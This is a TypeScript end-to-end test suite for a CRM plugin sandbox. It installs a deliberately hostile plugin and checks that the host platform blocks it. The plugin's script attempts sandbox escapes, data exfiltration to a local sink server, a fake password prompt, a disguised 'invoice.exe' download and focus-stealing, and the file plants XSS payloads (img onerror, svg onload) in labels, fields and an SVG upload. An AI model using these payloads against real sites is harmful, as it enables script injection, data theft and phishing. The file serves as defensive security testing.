import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import {
  defineDashboard,
  defineFields,
  definePage,
  definePlugin,
  defineScreen,
  field,
  label,
  may,
  option,
  patchDocument,
  tile,
} from '@stratacrm/sdk';
import { buildPlugin } from '@stratacrm/sdk/packing';
import type { Frame } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { packedPlugin } from '../../core/testing/plugin-packages.ts';
import { ADMIN } from '../../core/testing/admin.ts';
import { startStory, type Story, type StoryPage } from '../../core/testing/story.ts';

const { email, password } = ADMIN;

/** Markup that would tell on itself if anything ever ran it. */
const TRAP = `<img src=x onerror="window.__hit=1"><svg onload="window.__hit=1"></svg>`;
const text = label('Rogue', '流氓');

/** What a hostile screen tries; each line answers with why it came to nothing, or with `reached`. */
const ATTACKS = (sink: string) => `
let port;
const heard = [];
addEventListener('message', ({ data, ports }) => {
  if (ports[0] === undefined || port !== undefined) return;
  port = ports[0];
  port.onmessage = ({ data }) => heard.push(JSON.parse(data));
  port.postMessage(JSON.stringify({ tell: 'ready' }));
  run();
});
const ask = (number, method, given) => port.postMessage(JSON.stringify({ ask: number, method, given }));
const answered = async (number) => {
  for (let tries = 0; tries < 200; tries++) {
    const found = heard.find((each) => each.answer === number);
    if (found) return found.error?.code ?? 'reached';
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return 'nothing';
};
const tries = {
  dom: () => parent.document.title,
  topDom: () => top.document.body.innerHTML,
  cookies: () => document.cookie,
  storage: () => localStorage.length,
  database: () => new Promise((resolve, reject) => { const r = indexedDB.open('a'); r.onsuccess = resolve; r.onerror = () => reject(r.error); }),
  eval: () => eval('1'),
  popup: () => { const opened = window.open('${sink}/popup'); if (!opened) throw new Error('none'); },
  top: () => { top.location.href = '${sink}/top'; },
  fetch: () => fetch('${sink}/fetch', { mode: 'no-cors' }),
  api: () => fetch('/api/me'),
  socket: () => new Promise((resolve, reject) => { const s = new WebSocket('${sink.replace('http', 'ws')}'); s.onopen = resolve; s.onerror = () => reject(new Error('closed')); }),
  events: () => new Promise((resolve, reject) => { const s = new EventSource('${sink}/events'); s.onopen = resolve; s.onerror = () => reject(new Error('closed')); }),
  image: () => new Promise((resolve, reject) => { const i = new Image(); i.onload = resolve; i.onerror = () => reject(new Error('closed')); i.src = '${sink}/image'; }),
  worker: () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = resolve; w.onerror = () => reject(new Error('closed')); }),
  rtc: () => new RTCPeerConnection({ iceServers: [{ urls: '${sink.replace('http://', 'stun:')}' }] }),
  module: () => import('${sink}/module.js'),
  font: () => new FontFace('f', 'url(${sink}/font)').load(),
  transport: () => new WebTransport('${sink.replace('http', 'https')}/').ready,
  serviceWorker: () => navigator.serviceWorker.register('${sink}/worker.js'),
  sharedWorker: () => new Promise((resolve, reject) => { const w = new SharedWorker('data:text/javascript,onconnect=(e)=>e.ports[0].postMessage(1)'); w.port.onmessage = resolve; w.onerror = () => reject(new Error('closed')); }),
  caches: () => caches.open('a'),
  clipboard: () => navigator.clipboard.readText(),
  place: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, () => reject(new Error('denied')))),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  fullscreen: () => document.documentElement.requestFullscreen(),
  domain: () => { document.domain = '127.0.0.1'; },
};
async function run() {
  const found = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(); found[name] = 'reached'; } catch (error) { found[name] = error.name; }
  }
  navigator.sendBeacon('${sink}/beacon', 'x');
  const form = document.createElement('form');
  form.action = '${sink}/form'; form.method = 'post'; document.body.append(form);
  try { form.submit(); } catch {}
  for (const [rel, as] of [['prefetch'], ['preload', 'image'], ['stylesheet'], ['dns-prefetch'], ['preconnect'], ['modulepreload'], ['icon']]) {
    const link = document.createElement('link');
    Object.assign(link, { rel, href: '${sink}/' + rel }); if (as) link.as = as;
    document.head.append(link);
  }
  const inner = document.createElement('iframe');
  inner.srcdoc = '<img src="${sink}/srcdoc">'; document.body.append(inner);
  const link = document.createElement('a');
  link.href = '${sink}/link'; link.target = '_blank'; document.body.append(link); link.click();
  document.body.insertAdjacentHTML('beforeend', '<div style="background:url(${sink}/css)"></div><img src=x onerror="document.title = \\'ran\\'">');
  // Other windows are forged at: the Studio's, and a neighbour's with a port of one's own.
  // The way back belongs to the whole tab, and so would a download or a box of the browser's.
  history.back(); history.go(-2);
  alert('forged'); print();
  const saved = document.createElement('a');
  saved.href = URL.createObjectURL(new Blob(['x'])); saved.download = 'invoice.exe'; saved.click();
  const pinged = document.createElement('a');
  pinged.href = '#'; pinged.ping = '${sink}/ping'; document.body.append(pinged); pinged.click();
  document.body.insertAdjacentHTML('beforeend', '<video src="${sink}/video"></video><object data="${sink}/object"></object><embed src="${sink}/embed"><style>@import "${sink}/import"; @font-face { font-family: g; src: url(${sink}/face) } * { font-family: g }</style>');
  const rules = document.createElement('script');
  rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ urls: ['${sink}/ahead'] }] }); document.head.append(rules);
  new BroadcastChannel('strata').postMessage('forged');
  parent.postMessage(JSON.stringify({ tell: 'toast', given: { text: 'forged' } }), '*');
  for (let at = 0; at < parent.length; at++) parent.frames[at].postMessage('strata-screen-port', '*', [new MessageChannel().port2]);
  // Whoever takes the focus has not been touched.
  window.focus();
  ask(1, 'records.query', { object: 'contact', query: {} });
  ask(2, 'setting', { name: 'token' });
  ask(3, 'call', { name: 'free_seats' });
  ask(4, 'records.create', { object: 'account', values: { name: 'by the rogue' } });
  ask(5, 'open', { object: 'account' });
  ask(6, 'confirm', { title: 'Your password, please', detail: '' });
  for (const number of [1, 2, 3, 4, 5, 6]) found['ask' + number] = await answered(number);
  document.body.dataset.found = JSON.stringify(found);
}
const next = document.createElement('button');
next.id = 'next'; next.textContent = 'next'; document.body.prepend(next);
const grab = document.createElement('button');
grab.id = 'grab'; grab.textContent = 'grab'; document.body.prepend(grab);
grab.addEventListener('click', () => setInterval(() => window.focus(), 20));
next.addEventListener('click', () => {
  if (document.body.dataset.step === undefined) { document.body.dataset.step = '1'; port.postMessage('x'.repeat(300000)); }
  else if (document.body.dataset.step === '1') { document.body.dataset.step = '2'; port.postMessage(JSON.stringify({ ask: 9, method: 'kv.set', given: {} })); }
  else for (let at = 0; at < 400; at++) port.postMessage({ at });
});
`;

const LEAVES = (sink: string) => `
addEventListener('message', ({ ports: [port] }) => { port.postMessage('{"tell":"ready"}'); location.href = '${sink}/left'; });`;

const LOOPS = `
addEventListener('message', ({ ports: [port] }) => {
  port.postMessage('{"tell":"ready"}');
  setTimeout(() => { for (;;); }, 100);
});`;

const rogue = definePlugin({
  id: 'com.example.rogue',
  prefix: 'rogue',
  version: '1.0.0',
  label: label(`Rogue ${TRAP}`, `流氓 ${TRAP}`),
  description: text,
  screens: [
    defineScreen('rogue__attacks', { label: text, mount: 'record_panel', entry: 'a.ts' }),
    defineScreen('rogue__leaves', { label: label('Leaves', '离开'), mount: 'record_panel', entry: 'b.ts' }),
    defineScreen('rogue__hangs', { label: label('Hangs', '卡住'), mount: 'page', entry: 'd.ts' }),
    defineScreen('rogue__loops', { label: label('Loops', '循环'), mount: 'dashboard_tile', entry: 'c.ts' }),
  ],
  documents: [
    definePage('rogue__hangs', { label: label('Hangs', '卡住'), screen: 'rogue__hangs' }),
    defineDashboard({
      name: 'rogue__board',
      label: label('Loops', '循环'),
      filters: [],
      tiles: [
        tile('loops', 'screen', { label: text, at: { x: 0, y: 0, w: 4, h: 4 } }, { screen: 'rogue__loops' }),
        tile('free', 'screen', { label: text, at: { x: 4, y: 0, w: 4, h: 4 } }, { screen: 'club__tile' }),
      ],
    }),
    ...defineFields('account', {
      rogue__story: field.richText(label(`Story ${TRAP}`, `故事 ${TRAP}`)),
      rogue__kind: field.select(text, [option('trap', label(`Kind ${TRAP}`, `类型 ${TRAP}`))]),
      rogue__picture: field.file(text),
    }),
  ],
  patches: [
    patchDocument('layout', 'account_record', {
      sections: ['rogue__attacks', 'rogue__leaves'].map((screen) => ({
        id: screen,
        $add: true as const,
        $after: null,
        label: label(`${screen} ${TRAP}`, screen),
        columns: 1,
        items: screen === 'rogue__leaves' ? [] : [],
        screen,
      })),
    }),
  ],
  capabilities: [may.records('account', ['read'], ['name'], text)],
});

let story: Story;
let person: StoryPage;
let headers: Record<string, string>;
let account: string;
let sink: Server;
/** What a browser would have done for it: a box of its own, a file that is saved. */
const outside: string[] = [];
/** Whoever reached the world outside. */
const reached: string[] = [];

async function send(method: string, where: string, body?: unknown) {
  const isFile = body instanceof Uint8Array;
  const response = await fetch(new URL(where, story.server.url), {
    method,
    headers: { 'content-type': isFile ? 'application/octet-stream' : 'application/json', ...headers },
    ...(body !== undefined && { body: isFile ? new Uint8Array(body) : JSON.stringify(body) }),
  });
  const answer = await response.json();
  if (!response.ok) throw new Error(`${method} ${where}: ${JSON.stringify(answer)}`);
  return answer;
}

async function install(packed: Buffer): Promise<void> {
  const { digest } = (await send('POST', '/api/plugin-packages', packed)).data;
  const plan = (await send('POST', '/api/plugins/plan', { source: { digest } })).data;
  const grants = plan.package.capabilities.map(({ key }: { key: string }) => key);
  await send('POST', '/api/plugins/install', { source: { digest }, grants });
}

const frameOf = async (screen: string): Promise<Frame> => {
  const frame = await person.page.waitForSelector(`[data-screen=${screen}] iframe.ready`);
  return (await frame.contentFrame())!;
};

beforeAll(async () => {
  sink = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*').end('');
  });
  sink.on('connection', (socket) => reached.push(`connection from ${socket.remotePort}`));
  await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
  const world = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`;
  const environment = { STRATA_DEMO: '0', STRATA_PLUGIN_DEV: '1' };
  const folder = path.join(import.meta.dirname, 'club-plugin');
  const [club] = await Promise.all([
    buildPlugin(folder),
    startStory({ environment }).then((started) => (story = started)),
  ]);
  if (club.problems.length > 0) throw new Error(JSON.stringify(club.problems));
  person = await story.open('/');
  const { page } = person;
  page.on('dialog', (dialog) => {
    outside.push(`${dialog.type()} ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('download', (download) => outside.push(`download ${download.suggestedFilename()}`));
  await page.getByRole('textbox', { name: 'E-mail' }).fill(email);
  await page.getByLabel('Password', { exact: true }).fill(password);
  await page.getByRole('button', { name: 'Sign in' }).click();
  headers = { authorization: `Bearer ${(await send('POST', '/api/auth/login', { email, password })).token}` };
  const files = club.screens.flatMap(({ name, script, styles }) => [
    [`ui/${name}.js`, script] as const,
    ...(styles === '' ? [] : [[`ui/${name}.css`, styles] as const]),
  ]);
  await install(packedPlugin(club.manifest as never, { code: club.code, files: Object.fromEntries(files) }));
  await install(
    packedPlugin(rogue, {
      files: {
        'ui/rogue__attacks.js': ATTACKS(world),
        'ui/rogue__leaves.js': LEAVES(world),
        'ui/rogue__loops.js': LOOPS,
        'ui/rogue__hangs.js': 'for (;;);',
      },
    }),
  );
  const svg = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__hit=1"><script>window.__hit=1</script></svg>',
  );
  const { data: file } = await send(
    'POST',
    `/api/files?name=${encodeURIComponent(`${TRAP.replaceAll('/', '')}.svg`)}`,
    svg,
  );
  const values = { name: `Acme ${TRAP}`, rogue__story: `<p>${TRAP}</p>`, rogue__kind: 'trap', rogue__picture: file };
  account = (await send('POST', '/api/records/account', values)).data.id;
  await page.goto(new URL(`/o/account/${account}`, story.server.url).href);
});

afterAll(async () => {
  await story?.close();
  sink?.close();
});

test('a screen shows records, asks, changes what its plugin may, and wears the theme', async () => {
  const { page } = person;
  const seats = await frameOf('club__seats');
  await seats.getByText('Acme').waitFor();
  await expect.poll(() => seats.locator('.refused').textContent()).toMatch(/forbidden/);
  await seats.getByRole('button', { name: '1B' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByText('Club').waitFor();
  await dialog.getByRole('button', { name: 'Take it' }).click();
  await expect.poll(() => seats.locator('.name').textContent()).toContain(': 1B');
  const ink = () =>
    seats.locator('html').evaluate((root) => [root.dataset['theme'], getComputedStyle(document.body).color]);
  const [, light] = await ink();
  await page.emulateMedia({ colorScheme: 'dark' });
  await expect.poll(async () => (await ink())[0]).toBe('dark');
  expect((await ink())[1]).not.toBe(light);
  // By the keyboard into the frame, and out of it again.
  await seats.getByRole('button', { name: '2A' }).focus();
  await page.keyboard.press('Tab');
  await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).not.toBe('IFRAME');
});

test('the page of a package that is here in this version offers no upgrade to itself', async () => {
  const { page } = person;
  const here = page.url();
  const { data } = await send('GET', '/api/plugins');
  const { id, digest } = data.find((each: { id: string }) => each.id === 'com.example.rogue');
  await page.goto(new URL(`/studio/plugin-package?digest=${digest}`, story.server.url).href);
  await page.getByRole('heading', { level: 1, name: /^Rogue .* 1\.0\.0$/ }).waitFor();
  await page.getByTestId('capabilities').waitFor();
  expect(await page.getByTestId('install').count()).toBe(0);
  await page.getByTestId('is-here').click();
  await page.waitForURL(`**/studio/plugin?id=${id}`);
  await page.goto(here);
});

test('a hostile screen reaches nothing, learns nothing, and is refused by name', async () => {
  const { page } = person;
  const frame = await frameOf('rogue__attacks');
  await frame.waitForSelector('body[data-found]', { state: 'attached', timeout: 30_000 });
  const found = JSON.parse((await frame.locator('body').getAttribute('data-found'))!) as Record<string, string>;
  expect(Object.entries(found).filter(([, outcome]) => outcome === 'reached')).toEqual([]);
  expect(found).toMatchObject({
    dom: 'SecurityError',
    cookies: 'SecurityError',
    storage: 'SecurityError',
    eval: 'EvalError',
    ask1: 'forbidden',
    ask2: 'plugin_bad_argument',
    ask3: 'unknown_plugin_part',
    ask4: 'forbidden',
    ask5: 'screen_message_refused',
    ask6: 'screen_message_refused',
  });
  const screen = page.locator('[data-screen=rogue__attacks]');
  await frame.locator('#next').click();
  await screen.getByText('300000 characters').waitFor();
  await frame.locator('#next').click();
  await screen.getByText('there is no "kv.set"').waitFor();
  // The frame goes while it is being clicked.
  await frame
    .locator('#next')
    .dispatchEvent('click')
    .catch(() => undefined);
  await screen.getByRole('alert').getByText('was stopped').waitFor();
  // One that takes the focus from where somebody types is stopped.
  await screen.getByRole('button', { name: 'Start again' }).click();
  const again = await frameOf('rogue__attacks');
  await again.waitForSelector('body[data-found]', { state: 'attached' });
  await again.locator('#grab').click();
  const stopped = screen.getByRole('alert').getByText('it takes the focus');
  for (let times = 0; times < 5 && !(await stopped.isVisible()); times++) {
    await page.locator('[data-field=website] .reading').click();
    await expect.poll(() => page.locator('[data-field=website] .reading').count()).toBe(1);
  }
  await stopped.waitFor();
  // One that goes elsewhere is taken away.
  await page.locator('[data-screen=rogue__leaves]').getByRole('alert').getByText('it left its page').waitFor();
  expect(reached).toEqual([]);
  expect(outside).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  expect(new URL(page.url()).pathname).toBe(`/o/account/${account}`);
  expect(await page.getByText('forged').count()).toBe(0);
  expect((await send('GET', '/api/records/account?count=exact')).count).toBe(1);
});

test('what it wrote into labels, names, texts and files is shown and never run', async () => {
  const { page } = person;
  await page.getByText('Acme <img').first().waitFor();
  for (const where of ['/o/account?view=account_all', '/studio/plugin?id=com.example.rogue']) {
    await page.goto(new URL(where, story.server.url).href);
    await page.getByText('<img src=x').first().waitFor();
    expect(await page.evaluate('window.__hit')).toBeUndefined();
  }
  const { data } = await send('GET', `/api/records/account/${account}?fields=rogue__picture,rogue__story`);
  expect(JSON.stringify(data.rogue__story)).not.toMatch(/onerror|svg/);
  const place = `/api/records/account/${account}/files/rogue__picture`;
  const file = await fetch(new URL(place, story.server.url), { headers });
  expect(file.headers.get('content-disposition')).toMatch(/^attachment/);
  expect(file.headers.get('content-security-policy')).toMatch(/sandbox|default-src 'none'/);
});

test('a page of a plugin stands in the navigation, and its editor takes a value', async () => {
  const { page } = person;
  await page.goto(new URL('/', story.server.url).href);
  await page.getByRole('navigation').first().getByRole('link', { name: 'Club desk' }).click();
  const desk = await frameOf('club__desk');
  await desk.getByRole('button', { name: 'Acme' }).click();
  await page.waitForURL(`**/o/account/${account}`);
  await page.locator('[data-field=club__seat] .reading').click();
  const editor = await frameOf('club__pick');
  const input = editor.getByRole('textbox');
  await input.fill('seat');
  await page.getByText('A row and a letter').waitFor();
  await input.fill('12C');
  await page.getByRole('heading', { level: 1 }).click();
  await expect.poll(async () => (await send('GET', `/api/records/account/${account}`)).data.club__seat).toBe('12C');
});

test('it has records chosen, stands behind a button and among the figures', async () => {
  const { page } = person;
  await page.getByRole('button', { name: 'Invite to the club' }).click();
  const dialog = await frameOf('club__ask');
  await dialog.getByRole('button', { name: 'Invite them' }).click();
  await page.getByText('They are invited').waitFor();
  await expect.poll(async () => (await send('GET', `/api/records/account/${account}`)).data.club__seat).toBe('1A');
  await page.goto(new URL('/dashboards/club__board', story.server.url).href);
  await (await frameOf('club__tile')).getByText('3 seats').waitFor();
  await page.goto(new URL('/p/club__desk', story.server.url).href);
  const desk = await frameOf('club__desk');
  await desk.getByRole('button', { name: 'Choose a guest' }).click();
  await page.getByRole('dialog').getByText('Acme <img').first().click();
  await desk.getByText('Guest: Acme').waitFor();
});

test('a screen that never ends holds up neither the page nor the screens of others, and is taken away and written down', async () => {
  const { page } = person;
  await page.goto(new URL('/dashboards/rogue__board', story.server.url).href);
  const loops = page.locator('[data-screen=rogue__loops]');
  const beside = await frameOf('club__tile');
  await loops.getByText('does not answer').waitFor();
  // It still computes, and they are in no process with it.
  expect(await beside.evaluate('1 + 1')).toBe(2);
  await page.keyboard.press('Control+k');
  await page.getByRole('dialog').getByRole('combobox').fill('acme');
  await page.getByRole('dialog').getByText('Acme <img').first().waitFor();
  await page.keyboard.press('Escape');
  await loops.getByRole('alert').getByText('did not answer within 5 seconds').waitFor();
  await beside.getByText('3 seats').waitFor();
  const lines = async () => JSON.stringify((await send('GET', '/api/plugins/com.example.rogue/log')).data);
  await expect.poll(lines).toMatch(/rogue__loops.*did not answer/);
  await loops.getByRole('button', { name: 'Start again' }).click();
  await loops.getByRole('button', { name: 'Take away now' }).click();
  await loops.getByRole('alert').getByText('taken away by hand').waitFor();
});

test('a screen that held up its whole page, as browsers with one process for both let it, is not begun again by itself', async () => {
  const { page } = person;
  await page.goto(new URL('/', story.server.url).href);
  await page.getByRole('navigation').first().getByRole('link', { name: 'Club desk' }).waitFor();
  await page.evaluate("sessionStorage.setItem('strata.screens-at-work', JSON.stringify({ club__desk: 1 }))");
  await page.goto(new URL('/p/club__desk', story.server.url).href);
  const desk = page.locator('[data-screen=club__desk]');
  await desk.getByRole('alert').getByText('this page was held up').waitFor();
  expect(await desk.locator('iframe').count()).toBe(0);
  await desk.getByRole('button', { name: 'Start again' }).click();
  await (await frameOf('club__desk')).getByRole('button', { name: 'Acme' }).waitFor();
  // Left in good order it begins by itself.
  await page.reload();
  await (await frameOf('club__desk')).getByRole('button', { name: 'Acme' }).waitFor();
});

test('a screen that never ends loading is taken away after its time, and the way to its plugin is shown', async () => {
  const { page } = person;
  await page.clock.install();
  await page.goto(new URL('/p/rogue__hangs', story.server.url).href, { waitUntil: 'commit' });
  const hangs = page.locator('[data-screen=rogue__hangs]');
  await hangs.locator('iframe').waitFor({ state: 'attached' });
  await page.clock.fastForward(15_000);
  await hangs.getByRole('alert').getByText('did not answer within 15 seconds').waitFor();
  expect(await hangs.locator('iframe').count()).toBe(0);
  await hangs.getByRole('link').click();
  await page.getByRole('heading', { name: 'Rogue' }).waitFor();
});
